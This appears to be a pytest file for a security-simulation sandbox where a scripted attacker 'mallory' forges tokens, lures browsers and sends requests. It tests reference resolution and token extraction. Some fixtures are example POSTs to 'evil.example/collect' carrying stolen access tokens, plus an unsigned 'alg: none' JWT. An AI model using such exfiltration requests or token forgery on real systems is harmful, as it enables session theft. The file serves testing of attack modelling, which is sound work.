"""References that lead to what cannot stand in their place: the step is not taken, and the run goes on."""

from __future__ import annotations

import pytest

from sandbox.core.wire import Request, json_response
from sandbox.engine import references
from sandbox.protocol.trace import StepSkipped, of
from tests.support.short_stories import told

SETUP = """
    in app.sign_in {browser: mallory_browser, user: mallory}
    use mallory_browser.send {url: 'https://evil.example/x', json: {a: [1], n: null}}
"""


@pytest.mark.parametrize(
    ("step", "place"),
    [
        ("mallory_browser.visit {url: $use.request}", "url"),
        ("mallory.lure {browser: laptop, url: $use.request.json}", "url"),
        ("mallory.send {url: 'https://evil.example/', json: {a: $use.request}}", "json.a"),
        ("mallory.send {url: 'https://evil.example/', form: {a: $use.request.json}}", "form.a"),
        ("mallory.send {like: $use.response}", "like"),
        ("mallory.send {like: $use.request, change: {host: $use.request.json}}", "host"),
        ("mallory.forge {key: none, claims: {a: $use.request}}", "claims.a"),
        ("mallory.redeem {client: $use.request.json}", "client"),
        ("mallory.call_api {api: accounts, path: $use.request.json, token: x}", "path"),
        ("mallory.serve {url: 'https://evil.example/', json: {a: [$use.request]}}", "json"),
    ],
)
def test_a_step_with_a_value_that_does_not_fit_is_not_taken(step: str, place: str) -> None:
    record = told(f"{SETUP}it {step}\nlater clock.wait {{seconds: 1}}")
    (skipped,) = of(record.events, StepSkipped)
    assert skipped.missing == f"a value that fits `{place}`"
    assert "later" in record.outputs


def test_parts_of_values():
    request = Request(
        "POST",
        "https://a.example/cb?code=1#t=2",
        (("Referer", "https://b.example/?x=3"), ("Content-Type", "application/x-www-form-urlencoded")),
        "a=b",
    )
    path = lambda value, text: [value := references.part_of(value, p) for p in text.split(".")][-1]  # noqa: E731
    assert path(request, "url.query.code") == "1"
    assert path(request, "url.fragment.t") == "2"
    assert path(request, "headers.referer.query.x") == "3"
    assert path(request, "form.a") == "b"
    assert path(request, "method") == "POST"
    answer = json_response(200, {"keys": [{"kid": "k"}]})
    assert path(answer, "json.keys.0.kid") == "k"
    assert path(answer, "status") == 200
    for wrong in ("json.keys.9", "nothing", "headers.nothing", "json.keys.x"):
        assert path(answer, wrong) is None
    assert references.part_of("no address", "query") is None
    assert references.part_of("a.b.c", "claims") is None


JWT = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbGljZSJ9."


@pytest.mark.parametrize(
    "message",
    [
        Request("GET", "https://x.example/", (("Authorization", f"Bearer {JWT}"),)),
        Request("GET", "https://x.example/", (("authorization", f"DPoP {JWT}"), ("DPoP", "eyJhbGciOiJFUzI1NiJ9.eyJqdGkiOiIxIn0.x"))),
        Request("GET", f"https://x.example/?a=1&access_token={JWT}"),
        Request("GET", f"https://x.example/#access_token={JWT}&token_type=Bearer"),
        Request("GET", "https://x.example/", (("Cookie", f"a=b; session={JWT}"),)),
        Request("POST", "https://evil.example/collect", (), f'{{"storage": {{"access_token": "{JWT}"}}}}'),
        Request("POST", "https://evil.example/collect", (), f"found {JWT} in the page"),
        json_response(200, {"access_token": JWT}),
    ],
    ids=["Bearer", "DPoP", "query", "fragment", "cookie", "JSON", "text", "answer"],
)
def test_a_token_is_cut_out_of_any_place_it_stands_in(message: Request) -> None:
    assert references.part_of(message, "token") == JWT


def test_where_no_token_stands_there_is_none() -> None:
    assert references.part_of(Request("GET", "https://x.example/?code=1"), "token") is None
    assert references.part_of("https://x.example/", "token") is None


def test_cookies_are_parts_of_messages() -> None:
    assert references.part_of(Request("GET", "https://x.example/", (("Cookie", "a=1; b=2"),)), "cookies") == {"a": "1", "b": "2"}
    assert references.part_of(json_response(200, {}, ("Set-Cookie", "a=1; Path=/")), "cookies") == {"a": "1"}


def test_all_that_was_read_or_received_is_there_newest_first() -> None:
    record = told(
        """
        in app.sign_in {browser: laptop}
        one app.call_api {browser: laptop, api: accounts, path: /accounts}
        two app.call_api {browser: laptop, api: accounts, path: /accounts?second=1}
        log mallory.read {log: accounts}
        old mallory.send {like: $log.all.1}
        """,
        rs_log_redaction="off",
    )
    assert [r.url.partition("?")[2] for r in record.outputs["log"]["all"]] == ["second=1", ""]
    assert record.outputs["log"]["request"] == record.outputs["log"]["all"][0]
    assert record.outputs["old"]["request"].url.endswith("/accounts")
